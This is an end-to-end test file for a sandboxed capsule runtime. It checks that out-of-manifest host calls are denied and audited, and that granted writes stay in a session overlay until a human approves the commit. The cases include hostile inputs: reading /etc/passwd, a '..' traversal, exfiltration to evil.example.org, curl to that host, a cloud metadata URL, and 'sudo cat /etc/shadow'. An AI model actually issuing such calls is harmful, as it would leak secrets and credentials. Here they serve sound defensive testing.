/**
 * End-to-end, in both engines: host calls outside the manifest (a path, a host,
 * a command) are denied before any effect, the guest sees the refusal's code,
 * and every denial is in the signed audit chain with the capsule's id; a
 * granted write lands in the session overlay — not in the real workspace —
 * until the (gated) commit.
 */
import assert from "node:assert/strict";
import * as path from "node:path";
import type { JsonValue } from "../kernel/store/store.ts";
import type { AuditEntry } from "../kernel/audit/audit_entry.ts";
import { KernelError } from "../kernel/core/errors.ts";
import type { ApprovalRequest } from "../kernel/security/approval/handler.ts";
import {
  assertOk,
  assertRefused,
  ENGINES,
  makeRuntime,
  PERMS,
  type RuntimeFixture,
} from "./runtime_fixture_test.ts";

/** What the guarded capsule may do. `/etc` is granted so that the path mapper, not the manifest, must stop /etc/passwd. */
const GUARDED = [
  'fs_read = ["cwd://notes", "/etc"]',
  'fs_write = ["cwd://notes"]',
  'net = ["api.example.com", "169.254.169.254"]',
  'host_process = ["echo", "sudo"]',
];

const SECRET = "workspace secret, not granted\n";

async function bootGuarded(
  engine: "js" | "wasm",
): Promise<{ f: RuntimeFixture; id: string }> {
  const f = await makeRuntime();
  const id = `${engine}-guarded`;
  try {
    await Deno.writeTextFile(path.join(f.workspace, "secret.txt"), SECRET);
    await f.install({ name: id, engine, capabilities: GUARDED });
    const report = await f.boot();
    assert.deepEqual(report.loaded, [id]);
  } catch (err) {
    await f.close();
    throw err;
  }
  return { f, id };
}

function actionOf(e: AuditEntry): Record<string, JsonValue> {
  return e.action as Record<string, JsonValue>;
}

/** The one denied entry of `capsule` whose action matches `want`. */
function deniedEntry(
  denied: readonly AuditEntry[],
  capsule: string,
  want: Record<string, JsonValue>,
): AuditEntry {
  const hits = denied.filter((e) =>
    Object.entries(want).every(([k, v]) =>
      JSON.stringify(actionOf(e)[k]) === JSON.stringify(v)
    )
  );
  assert.equal(
    hits.length,
    1,
    `one denied entry for ${JSON.stringify(want)}, got ${
      JSON.stringify(denied.map((e) => e.action))
    }`,
  );
  const hit = hits[0]!;
  assert.equal(hit.capsule, capsule);
  assert.equal(hit.decision, "denied");
  return hit;
}

for (const engine of ENGINES) {
  Deno.test({
    name:
      `runtime (${engine}): host calls to a path, a host and a command outside the manifest are denied and audited with the capsule id`,
    permissions: PERMS,
    async fn() {
      const { f, id } = await bootGuarded(engine);
      try {
        const ws = f.workspace;
        const cases: {
          fn: string;
          payload: JsonValue;
          code: string;
          audit: Record<string, JsonValue>;
          layer: string;
        }[] = [
          // A workspace file outside the granted `cwd://notes`.
          {
            fn: "fs_read",
            payload: { path: "secret.txt" },
            code: "MANIFEST_DENIED",
            audit: {
              type: "capsule_file_access",
              path: `${ws}/secret.txt`,
              mode: "read",
            },
            layer: "manifest",
          },
          // Climbing out of the grant is not covered by it: the one mapper
          // applies `..` once, and the gate judges the file it names.
          {
            fn: "fs_read",
            payload: { path: "cwd://notes/../notes-secret.txt" },
            code: "MANIFEST_DENIED",
            audit: {
              type: "capsule_file_access",
              path: `${ws}/notes-secret.txt`,
            },
            layer: "manifest",
          },
          // Outside every mount: refused by the one mapper before the gate,
          // the attempt audited as denied (layer "path").
          {
            fn: "fs_read",
            payload: { path: "/var/log/syslog" },
            code: "VFS_PATH_ESCAPE",
            audit: { type: "capsule_file_access", path: "/var/log/syslog" },
            layer: "path",
          },
          // Granted by the manifest, still unreachable: a manifest never
          // widens what a guest path can name.
          {
            fn: "fs_read",
            payload: { path: "/etc/passwd" },
            code: "VFS_PATH_ESCAPE",
            audit: { type: "capsule_file_access", path: "/etc/passwd" },
            layer: "path",
          },
          {
            fn: "fs_write",
            payload: { path: "secret.txt", content: "pwned" },
            code: "MANIFEST_DENIED",
            audit: {
              type: "capsule_file_access",
              path: `${ws}/secret.txt`,
              mode: "write",
            },
            layer: "manifest",
          },
          {
            fn: "http_request",
            payload: { url: "https://evil.example.org/exfiltrate" },
            code: "MANIFEST_DENIED",
            audit: {
              type: "capsule_http_request",
              url: "https://evil.example.org/exfiltrate",
            },
            layer: "manifest",
          },
          // A look-alike of a granted host is not a subdomain of it.
          {
            fn: "http_request",
            payload: { url: "https://api.example.com.evil.org/" },
            code: "MANIFEST_DENIED",
            audit: {
              type: "capsule_http_request",
              url: "https://api.example.com.evil.org/",
            },
            layer: "manifest",
          },
          // Granted by the manifest, but cloud metadata is always blocked.
          {
            fn: "http_request",
            payload: { url: "http://169.254.169.254/latest/meta-data/" },
            code: "POLICY_BLOCKED",
            audit: {
              type: "capsule_http_request",
              url: "http://169.254.169.254/latest/meta-data/",
            },
            layer: "policy",
          },
          {
            fn: "process_spawn",
            payload: { cmd: "curl", args: ["https://evil.example.org"] },
            code: "MANIFEST_DENIED",
            audit: { type: "capsule_process_spawn", command: "curl" },
            layer: "manifest",
          },
          // `echo` is granted; `echoes` is another command.
          {
            fn: "process_spawn",
            payload: { cmd: "echoes", args: ["x"] },
            code: "MANIFEST_DENIED",
            audit: { type: "capsule_process_spawn", command: "echoes" },
            layer: "manifest",
          },
          // Granted by the manifest, blocked by policy.
          {
            fn: "process_spawn",
            payload: { cmd: "sudo", args: ["cat", "/etc/shadow"] },
            code: "POLICY_BLOCKED",
            audit: { type: "capsule_process_spawn", command: "sudo" },
            layer: "policy",
          },
        ];
        for (const c of cases) {
          const message = assertRefused(
            await f.hostCall(id, c.fn, c.payload),
            c.code,
          );
          assert.ok(!message.includes(SECRET.trim()), message);
        }
        // Nothing happened: the secret is intact and was never written.
        assert.equal(await Deno.readTextFile(`${ws}/secret.txt`), SECRET);
        // Every denial is one signed entry of the principal's chain, with the capsule id.
        const denied = await f.kernel.security.audit.query({
          principal: f.principal,
          decision: "denied",
        });
        assert.equal(denied.length, cases.length);
        for (const c of cases) {
          const entry = deniedEntry(denied, id, c.audit);
          assert.equal(
            (entry.proof as { layer?: string }).layer,
            c.layer,
            JSON.stringify(entry.proof),
          );
          assert.equal(entry.session, f.runtime.session);
        }
        // A refused call has no effect, so it has no outcome entry either.
        assert.equal((await f.audit(id, "allowed")).length, 0);
        const verdict = await f.kernel.security.audit.verify(f.principal);
        assert.equal(verdict.valid, true, JSON.stringify(verdict.firstBad));
      } finally {
        await f.close();
      }
    },
  });

  Deno.test({
    name:
      `runtime (${engine}): a granted fs_write lands in the session overlay, not in the workspace, until the gated commit`,
    permissions: PERMS,
    async fn() {
      const { f, id } = await bootGuarded(engine);
      try {
        const real = path.join(f.workspace, "notes", "today.md");
        const text = "written by a capsule ✓\n";
        assert.deepEqual(
          assertOk(
            await f.hostCall(id, "fs_write", {
              path: "notes/today.md",
              content: text,
            }),
          ),
          { ok: true },
        );
        // The overlay promise: the real workspace is untouched before commit.
        await assert.rejects(Deno.stat(real), Deno.errors.NotFound);
        await assert.rejects(
          Deno.stat(path.dirname(real)),
          Deno.errors.NotFound,
        );
        // The capsule (same session) reads its write back through the overlay.
        assert.deepEqual(
          assertOk(await f.hostCall(id, "fs_read", { path: "notes/today.md" })),
          { content: text },
        );
        assert.deepEqual(
          assertOk(
            await f.hostCall(id, "fs_read", { path: "cwd://notes/today.md" }),
          ),
          { content: text },
        );
        // Both calls were allowed by the gate, each with its outcome recorded.
        const allowed = (await f.audit(id, "allowed")).map((e) => actionOf(e));
        assert.deepEqual(
          allowed.map((a) => [a.type, a.mode, a.path]),
          [
            ["capsule_file_access", "write", real],
            ["capsule_file_access", "read", real],
            ["capsule_file_access", "read", real],
          ],
        );
        const outcomes = (await f.audit(id)).filter((e) =>
          actionOf(e).type === "action_outcome"
        );
        assert.equal(outcomes.length, 3);
        // Committing the session's overlay is a gated action of its own: in
        // autonomous mode it needs a human; with nobody to ask it is deferred
        // and nothing lands…
        const overlay = await f.runtime.overlays.forSession(
          f.principal,
          f.runtime.session,
          { workspace: f.workspace },
        );
        await assert.rejects(
          overlay.commit({ callId: crypto.randomUUID() }),
          (err) => KernelError.is(err, "APPROVAL_DEFERRED"),
        );
        await assert.rejects(Deno.stat(real), Deno.errors.NotFound);
        // …until a human allows it.
        const asked: ApprovalRequest[] = [];
        f.kernel.security.approvals.setHandler({
          isAvailable: () => true,
          request: (request) => {
            asked.push(request);
            return Promise.resolve({ decision: "allow_once" });
          },
        });
        const result = await overlay.commit({ callId: crypto.randomUUID() });
        assert.deepEqual(asked.map((r) => r.action.type), ["overlay_commit"]);
        assert.deepEqual(result.refused, []);
        assert.ok(
          result.committed.some((c) => c.path === "notes/today.md"),
          JSON.stringify(result.committed),
        );
        assert.equal(await Deno.readTextFile(real), text);
        const verdict = await f.kernel.security.audit.verify(f.principal);
        assert.equal(verdict.valid, true, JSON.stringify(verdict.firstBad));
      } finally {
        await f.close();
      }
    },
  });
}
